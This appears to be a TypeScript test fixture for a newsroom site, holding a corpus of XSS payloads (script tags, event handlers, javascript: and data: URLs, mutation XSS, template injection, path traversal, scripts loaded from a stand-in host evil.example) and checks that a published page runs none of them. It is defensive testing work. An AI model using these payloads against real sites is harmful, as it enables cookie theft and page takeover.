import { parseHtml, type HtmlDocument } from '../../testing/html-dom';
import type { StoryNode } from '../../../shared/newsroom';

// An XSS corpus for the newsroom (issue 37), for its tests only: strings an attacker (or a
// paste from anywhere) could put in a story, and the checks that a published page shows them
// as text and runs none of them. server/apps/newsroom/xss.test.ts sends each one through the
// API into every place a string can go; test/browser/story-xss.browser.ts publishes one story
// holding them all and loads it in chromium.
//
// Payloads that would run call `window.__xss.push(id)` (the browser test's sentinel; `alert`,
// `prompt` and `confirm` push 'dialog'), so a payload that runs anywhere leaves its id behind.

export interface XssPayload {
  id: string;
  payload: string;
  /** What it tries. */
  note: string;
  /**
   * A weakness found by these tests and not fixed yet: its test is `test.failing` until it is
   * (then the test goes red, and this flag comes out).
   */
  knownIssue?: string;
}

const run = (id: string) => `window.__xss.push('${id}')`;

export const XSS_PAYLOADS: XssPayload[] = [
  // Script elements.
  { id: 'script', payload: `<script>${run('script')}</script>`, note: 'a plain script element' },
  { id: 'script-src', payload: '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>', note: 'an upper-case external script' },
  { id: 'script-alert', payload: '<script>alert(document.cookie)</script>', note: 'the classic' },
  { id: 'script-nested', payload: `<scr<script>ipt>${run('script-nested')}</scr</script>ipt>`, note: 'a filter that strips <script> once' },
  { id: 'script-double-lt', payload: `<<script>script>${run('script-double-lt')}<</script>/script>`, note: 'doubled angle brackets' },
  { id: 'script-in-text', payload: `</p><script>${run('script-in-text')}</script><p>`, note: 'closing the paragraph it is printed in' },
  { id: 'close-title', payload: `</title><script>${run('close-title')}</script>`, note: 'closing <title>' },
  { id: 'close-script', payload: `</script><script>${run('close-script')}</script>`, note: 'closing the JSON-LD script a headline is printed in' },
  { id: 'close-textarea', payload: `</textarea><script>${run('close-textarea')}</script>`, note: 'closing a textarea' },
  { id: 'close-comment', payload: `--><script>${run('close-comment')}</script><!--`, note: 'closing an HTML comment (a live-card marker is one)' },
  { id: 'cdata', payload: `<![CDATA[<script>${run('cdata')}</script>]]>`, note: 'CDATA in HTML' },
  { id: 'template-el', payload: `<template><script>${run('template-el')}</script></template>`, note: 'a template element' },
  { id: 'nul-script', payload: `\u0000<script>${run('nul-script')}</script>`, note: 'a NUL before a script' },
  { id: 'line-separators', payload: `\u2028</script>\u2029<script>${run('line-separators')}</script>\u2028`, note: 'U+2028/U+2029, which end a line in JavaScript and once broke JSON in a script' },
  { id: 'pre-escaped', payload: `&lt;script&gt;${run('pre-escaped')}&lt;/script&gt;`, note: 'already escaped: must show as typed, not be decoded' },
  { id: 'url-encoded', payload: `%3Cscript%3E${run('url-encoded')}%3C/script%3E`, note: 'percent-encoded' },
  { id: 'json-escaped', payload: `\\u003cscript\\u003e${run('json-escaped')}\\u003c/script\\u003e`, note: 'JSON-escaped angle brackets as text' },
  // Event handler attributes.
  { id: 'img-onerror', payload: `<img src=x onerror="${run('img-onerror')}">`, note: 'an image that fails to load' },
  { id: 'img-onerror-unclosed', payload: `<img src=x onerror=${run('img-onerror-unclosed')}//`, note: 'an unclosed tag' },
  { id: 'img-backtick', payload: `<img src=\`x\` onerror=${run('img-backtick')}>`, note: 'backtick-quoted attributes' },
  { id: 'svg-onload', payload: `<svg onload="${run('svg-onload')}">`, note: 'SVG with onload' },
  { id: 'svg-slash-onload', payload: `<svg/onload=${run('svg-slash-onload')}>`, note: 'SVG, no space before the handler' },
  { id: 'svg-script', payload: `<svg><script>${run('svg-script')}</script></svg>`, note: 'a script inside SVG' },
  { id: 'svg-animate', payload: `<svg><animate onbegin="${run('svg-animate')}" attributeName="x" dur="1s"></animate></svg>`, note: 'SVG animation events' },
  { id: 'svg-xlink', payload: `<svg><a xlink:href="javascript:${run('svg-xlink')}"><text y="20">tap</text></a></svg>`, note: 'an SVG link' },
  { id: 'body-onload', payload: `<body onload="${run('body-onload')}">`, note: 'a second body' },
  { id: 'details-ontoggle', payload: `<details open ontoggle="${run('details-ontoggle')}"><summary>x</summary></details>`, note: 'fires without a click' },
  { id: 'input-autofocus', payload: `<input autofocus onfocus="${run('input-autofocus')}">`, note: 'fires on load' },
  { id: 'video-source', payload: `<video><source onerror="${run('video-source')}"></video>`, note: 'a media source error' },
  { id: 'marquee', payload: `<marquee onstart="${run('marquee')}">x</marquee>`, note: 'marquee events' },
  { id: 'onclick', payload: `<a href="#" onclick="${run('onclick')}">tap</a>`, note: 'a click handler' },
  { id: 'attr-breakout-dq', payload: `" onmouseover="${run('attr-breakout-dq')}`, note: 'leaving a double-quoted attribute' },
  { id: 'attr-breakout-sq', payload: `' onmouseover='${run('attr-breakout-sq')}`, note: 'leaving a single-quoted attribute' },
  { id: 'attr-breakout-autofocus', payload: `" autofocus onfocus="${run('attr-breakout-autofocus')}" x="`, note: 'leaving an attribute into one that fires by itself' },
  { id: 'attr-breakout-tag', payload: `"><img src=x onerror="${run('attr-breakout-tag')}">`, note: 'leaving the attribute and the tag' },
  { id: 'attr-breakout-sq-tag', payload: `'><img src=x onerror='${run('attr-breakout-sq-tag')}'>`, note: 'the same, single quotes' },
  // Links and URLs.
  { id: 'js-link', payload: `<a href="javascript:${run('js-link')}">tap</a>`, note: 'a javascript: link as markup' },
  { id: 'js-url', payload: `javascript:${run('js-url')}`, note: 'javascript: as an address' },
  { id: 'js-url-case', payload: `JaVaScRiPt:${run('js-url-case')}`, note: 'mixed case' },
  { id: 'js-url-space', payload: ` javascript:${run('js-url-space')}`, note: 'a leading space' },
  { id: 'js-url-entity-tab', payload: `jav&#x09;ascript:${run('js-url-entity-tab')}`, note: 'an entity-encoded tab (decoded in an attribute)' },
  { id: 'js-url-tab', payload: `jav\tascript:${run('js-url-tab')}`, note: 'a real tab, which URL parsers drop' },
  { id: 'js-url-newline', payload: `java\nscript:${run('js-url-newline')}`, note: 'a newline, which URL parsers drop' },
  { id: 'js-url-control', payload: `\u0001javascript:${run('js-url-control')}`, note: 'a leading control character, which URL parsers strip' },
  { id: 'js-url-bom', payload: `\ufeffjavascript:${run('js-url-bom')}`, note: 'a leading byte order mark' },
  { id: 'js-url-colon-entity', payload: `javascript&colon;${run('js-url-colon-entity')}`, note: 'an entity for the colon' },
  { id: 'js-url-entities', payload: `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run('js-url-entities')}`, note: 'every letter an entity' },
  { id: 'js-url-hex-entity', payload: `<a href="&#x6A;avascript:${run('js-url-hex-entity')}">tap</a>`, note: 'a hex entity in markup' },
  { id: 'data-url', payload: 'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3MucHVzaCgnZGF0YScpPC9zY3JpcHQ+', note: 'a base64 data: document' },
  { id: 'data-url-plain', payload: `data:text/html,<script>${run('data-url-plain')}</script>`, note: 'a data: document' },
  { id: 'vbscript', payload: 'vbscript:msgbox("xss")', note: 'vbscript:' },
  { id: 'protocol-relative', payload: '//evil.example/', note: 'another host, protocol-relative' },
  {
    id: 'backslash-path',
    payload: '/\\evil.example/',
    note: 'a “site path” a browser reads as //evil.example/',
  },
  { id: 'https-breakout', payload: `https://example.com/"><script>${run('https-breakout')}</script>`, note: 'a valid-looking address that leaves its attribute' },
  { id: 'https-fragment', payload: `https://example.com/#<img src=x onerror=${run('https-fragment')}>`, note: 'markup in a fragment' },
  { id: 'mailto-markup', payload: `mailto:tips@example.com?body=<script>${run('mailto-markup')}</script>`, note: 'markup in a mailto: body' },
  // Frames, objects and the like.
  { id: 'iframe-js', payload: `<iframe src="javascript:${run('iframe-js')}"></iframe>`, note: 'a javascript: frame' },
  { id: 'iframe-other', payload: '<iframe src="https://evil.example/"></iframe>', note: 'a frame of another site' },
  { id: 'iframe-srcdoc', payload: `<iframe srcdoc="<script>parent.${run('iframe-srcdoc')}</script>"></iframe>`, note: 'srcdoc' },
  { id: 'iframe-youtube-onload', payload: `<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" onload="${run('iframe-youtube-onload')}"></iframe>`, note: 'an allowed frame with a handler' },
  { id: 'object', payload: `<object data="javascript:${run('object')}"></object>`, note: 'object' },
  { id: 'embed', payload: `<embed src="data:text/html,<script>parent.${run('embed')}</script>">`, note: 'embed' },
  { id: 'math-href', payload: `<math href="javascript:${run('math-href')}">tap</math>`, note: 'MathML links' },
  { id: 'math-mxss', payload: `<math><mtext><table><mglyph><style><img src=x onerror="${run('math-mxss')}">`, note: 'a namespace-confusion mutation' },
  { id: 'noscript-mxss', payload: `<noscript><p title="</noscript><img src=x onerror=${run('noscript-mxss')}>">`, note: 'a noscript mutation' },
  { id: 'xmp-mxss', payload: `<xmp><p title="</xmp><img src=x onerror=${run('xmp-mxss')}>">`, note: 'an xmp mutation' },
  { id: 'form-action', payload: `<form action="javascript:${run('form-action')}"><button>go</button></form>`, note: 'a form' },
  { id: 'formaction', payload: `<button formaction="javascript:${run('formaction')}">go</button>`, note: 'a button’s formaction' },
  { id: 'meta-refresh', payload: `<meta http-equiv="refresh" content="0;url=javascript:${run('meta-refresh')}">`, note: 'a refresh' },
  { id: 'base', payload: '<base href="https://evil.example/">', note: 'a base for every relative URL' },
  // Styles.
  { id: 'style-url', payload: `<div style="background:url(javascript:${run('style-url')})">x</div>`, note: 'a style attribute with a URL' },
  { id: 'style-expression', payload: `<div style="width: expression(${run('style-expression')})">x</div>`, note: 'IE expression()' },
  { id: 'style-element', payload: "<style>@import 'https://evil.example/x.css'; body { display: none }</style>", note: 'a style element' },
  { id: 'link-stylesheet', payload: '<link rel="stylesheet" href="https://evil.example/x.css">', note: 'a stylesheet link' },
  // Templates.
  { id: 'mustache', payload: '{{ 7*7 }}', note: 'template injection' },
  { id: 'nunjucks-raw', payload: '{% raw %}{{ 7*7 }}{% endraw %}', note: 'a nunjucks tag' },
  { id: 'nunjucks-constructor', payload: `{{ constructor.constructor("${run('nunjucks-constructor')}")() }}`, note: 'escaping the nunjucks sandbox' },
  { id: 'other-templates', payload: '${7*7} <%= 7*7 %> #{7*7}', note: 'other template languages' },
  // Attributes of the document's own nodes.
  { id: 'youtube-quotes', payload: '"onload=x//', note: 'an 11-character “video id” with a quote' },
  { id: 'youtube-tag', payload: "a'><svg/xx>", note: 'an 11-character “video id” with a tag' },
  { id: 'youtube-url', payload: 'https://www.youtube.com/watch?v=dQw4w9WgXcQ"onload="x', note: 'a whole YouTube address' },
  { id: 'key-dotdot', payload: '../../etc/passwd', note: 'a media key leaving the media store' },
  { id: 'key-dotdot-inner', payload: 'stories/../../../secret.jpg', note: 'a media key climbing out from inside' },
  { id: 'key-js', payload: `javascript:${run('key-js')}`, note: 'a media key that is a script address' },
  { id: 'key-absolute', payload: 'https://evil.example/tracker.jpg', note: 'a media key that is another site’s image (imageUrl passes absolute URLs through)' },
];

/** The ids of a live card's target and the like that a document needs. */
export interface PayloadRefs {
  /** A place that exists, so a live card is drawn. */
  placeId: number;
}

export const SAFE_KEY = 'stories/xss/safe.jpg';
export const SAFE_VIDEO = 'dQw4w9WgXcQ';

const p = (text: string, marks?: StoryNode['marks']): StoryNode => ({ type: 'paragraph', content: [marks ? { type: 'text', text, marks } : { type: 'text', text }] });

/**
 * Each place a string can go in a document, with the payload there. A place is one or more
 * blocks; `accepts` says whether the schema may take any text there (then the payload must be
 * saved and shown as text), or checks it (a key, an address, a video id).
 */
export function payloadDocPlaces(payload: string, refs: PayloadRefs): Array<{ place: string; checked: boolean; nodes: StoryNode[] }> {
  // Text must not be empty; every string here is, so the payload goes as it is.
  return [
    { place: 'text', checked: false, nodes: [p(payload)] },
    { place: 'bold italic text', checked: false, nodes: [p(payload, [{ type: 'bold' }, { type: 'italic' }])] },
    { place: 'heading', checked: false, nodes: [{ type: 'heading', attrs: { level: 2 }, content: [{ type: 'text', text: payload }] }] },
    { place: 'list item', checked: false, nodes: [{ type: 'bulletList', content: [{ type: 'listItem', content: [p(payload)] }] }] },
    { place: 'quote', checked: false, nodes: [{ type: 'blockquote', content: [p(payload)] }] },
    { place: 'link text', checked: false, nodes: [p(payload, [{ type: 'link', attrs: { href: 'https://example.com/safe' } }])] },
    { place: 'link title', checked: false, nodes: [p('titled link', [{ type: 'link', attrs: { href: '/safe/', title: payload.slice(0, 300) } }])] },
    { place: 'link href', checked: true, nodes: [p('payload link', [{ type: 'link', attrs: { href: payload } }])] },
    { place: 'image key', checked: true, nodes: [{ type: 'image', attrs: { key: payload, alt: 'alt', credit: 'credit', caption: 'caption' } }] },
    { place: 'image alt/credit/caption', checked: false, nodes: [{ type: 'image', attrs: { key: SAFE_KEY, alt: payload, credit: payload, caption: payload } }] },
    { place: 'gallery key', checked: true, nodes: [{ type: 'gallery', attrs: { items: [{ key: SAFE_KEY, alt: 'a', credit: 'c', caption: '' }, { key: payload, alt: 'a', credit: 'c', caption: '' }] } }] },
    { place: 'gallery alt/credit/caption', checked: false, nodes: [{ type: 'gallery', attrs: { items: [{ key: SAFE_KEY, alt: payload, credit: payload, caption: payload }] } }] },
    { place: 'youtube videoId', checked: true, nodes: [{ type: 'youtube', attrs: { videoId: payload, caption: 'video' } }] },
    { place: 'youtube caption', checked: false, nodes: [{ type: 'youtube', attrs: { videoId: SAFE_VIDEO, start: 5, caption: payload } }] },
    { place: 'liveCard label', checked: false, nodes: [{ type: 'liveCard', attrs: { kind: 'place', id: refs.placeId, label: payload } }] },
  ];
}

/** The story fields that are text, each with the payload (sponsored, with a picture, so all show). */
export const PAYLOAD_TEXT_FIELDS = ['name', 'excerpt', 'seo_title', 'seo_description', 'sponsor_name', 'author_name', 'image_alt', 'image_credit', 'canonical_url', 'image_key', 'social_image_key'] as const;
export type PayloadTextField = (typeof PAYLOAD_TEXT_FIELDS)[number];

/** What a field holds when the payload is refused there, so the page has the same parts. */
export const SAFE_FIELD_VALUES: Record<PayloadTextField, string> = {
  name: 'A safe headline',
  excerpt: 'A safe excerpt.',
  seo_title: 'A safe SEO title',
  seo_description: 'A safe description.',
  sponsor_name: 'Safe Sponsor Inc.',
  author_name: 'Safe Writer',
  image_alt: 'A safe alt text',
  image_credit: 'Photo: Safe',
  canonical_url: '',
  image_key: SAFE_KEY,
  social_image_key: SAFE_KEY,
};

// ## The page checks

/** What a page's own scripts are: their src, type, and a JSON-LD block's @type. */
export function pageScripts(doc: HtmlDocument): string[] {
  return [...doc.querySelectorAll('script')].map((s) => {
    const type = s.getAttribute('type') ?? '';
    let ld = '';
    if (type === 'application/ld+json') {
      try {
        ld = String((JSON.parse(s.textContent ?? '') as { '@type'?: string })['@type']);
      } catch {
        ld = 'UNPARSABLE';
      }
    }
    return `src=${s.getAttribute('src') ?? ''} type=${type} ld=${ld}`;
  });
}

/** Counts of the elements that run, load or restyle something: content may add none. */
const WATCHED_ELEMENTS = ['script', 'style', 'link', 'meta', 'base', 'object', 'embed', 'applet', 'frame', 'frameset', 'math', 'form', 'template', 'noscript', 'input', 'button', 'textarea', 'select', 'video', 'audio', 'source', 'details', 'marquee', 'xmp', 'body', 'svg', 'animate', 'set', 'use', 'foreignObject'];

export function watchedElementCounts(doc: HtmlDocument): Record<string, number> {
  return Object.fromEntries(WATCHED_ELEMENTS.map((t) => [t, doc.getElementsByTagName(t).length]));
}

/** An attribute value as a browser reads it as a URL: no whitespace or control characters, lower case. */
export function urlScheme(value: string): string {
  // eslint-disable-next-line no-control-regex
  return value.replace(/[\u0000-\u0020\u007f-\u009f\u00a0\u1680\u180e\u2000-\u200b\u2028\u2029\u202f\u205f\u3000\ufeff]/g, '').toLowerCase();
}

const URL_ATTRS = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background', 'srcset', 'ping', 'codebase', 'cite', 'longdesc', 'manifest', 'lowsrc', 'dynsrc'];
export const YOUTUBE_EMBED = /^https:\/\/www\.youtube-nocookie\.com\/embed\/[A-Za-z0-9_-]{11}(\?start=\d+)?$/;

export interface PageBaseline {
  scripts: string[];
  counts: Record<string, number>;
}

export function parsePage(html: string, url = 'http://127.0.0.1/'): HtmlDocument {
  return parseHtml(html, url);
}

export function pageBaseline(html: string): PageBaseline {
  const doc = parsePage(html);
  return { scripts: pageScripts(doc), counts: watchedElementCounts(doc) };
}

/**
 * Everything on a page that could run script or load another site's code, compared with a
 * baseline page of the same template: an empty list is a page with no executable markup from
 * its content. `siteOrigin` is the page's own origin (links without rel must stay there).
 */
export function executableMarkupProblems(html: string, baseline: PageBaseline, siteOrigin = 'http://127.0.0.1'): string[] {
  const doc = parsePage(html, `${siteOrigin}/`);
  const problems: string[] = [];
  const scripts = pageScripts(doc);
  if (JSON.stringify(scripts) !== JSON.stringify(baseline.scripts)) problems.push(`scripts differ from the baseline page: ${JSON.stringify(scripts)} vs ${JSON.stringify(baseline.scripts)}`);
  const counts = watchedElementCounts(doc);
  for (const [tag, n] of Object.entries(counts)) if (n !== baseline.counts[tag]) problems.push(`${n} <${tag}> elements, the baseline page has ${baseline.counts[tag]}`);
  for (const el of doc.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    for (const a of el.getAttributeNames()) {
      const value = el.getAttribute(a) ?? '';
      if (a.toLowerCase().startsWith('on')) problems.push(`<${tag}> has an event handler attribute ${a}="${value}"`);
      if (a.toLowerCase() === 'srcdoc') problems.push(`<${tag}> has srcdoc`);
      if (URL_ATTRS.includes(a.toLowerCase())) {
        const scheme = urlScheme(value);
        // img-src allows data: images; nothing else may be a data: URL.
        const dataImage = tag === 'img' && a === 'src' && scheme.startsWith('data:image/') && !scheme.startsWith('data:image/svg');
        if (scheme.startsWith('javascript:') || scheme.startsWith('vbscript:') || (scheme.startsWith('data:') && !dataImage)) problems.push(`<${tag} ${a}="${value}">: a script or data address`);
      }
      if (a === 'style' && /expression\s*\(|javascript:|behavior\s*:|-moz-binding|url\s*\(/i.test(value)) problems.push(`<${tag} style="${value}">`);
      if (a === 'http-equiv' && value.toLowerCase() === 'refresh') problems.push('a meta refresh');
    }
  }
  for (const f of doc.querySelectorAll('iframe')) {
    const src = f.getAttribute('src') ?? '';
    if (!YOUTUBE_EMBED.test(src)) problems.push(`an <iframe> of ${src}`);
  }
  // Links in the story that do not say they lead elsewhere (no rel) must stay on this site.
  for (const a of doc.querySelectorAll('.article-body a[href]')) {
    const href = a.getAttribute('href') ?? '';
    let target: URL;
    try {
      target = new URL(href, `${siteOrigin}/`);
    } catch {
      problems.push(`an unparsable link ${href}`);
      continue;
    }
    if (!['http:', 'https:', 'mailto:'].includes(target.protocol)) problems.push(`a link to ${target.protocol}`);
    if (!a.getAttribute('rel') && target.origin !== siteOrigin) problems.push(`a link without rel leading to ${target.origin} (${href})`);
  }
  return problems;
}

/** Text as an HTML parser leaves it: line ends normalised, NUL dropped or replaced. */
export function asParsed(text: string): string {
  // eslint-disable-next-line no-control-regex
  return text.replace(/\r\n?/g, '\n').replace(/[\u0000\ufffd]/g, '');
}
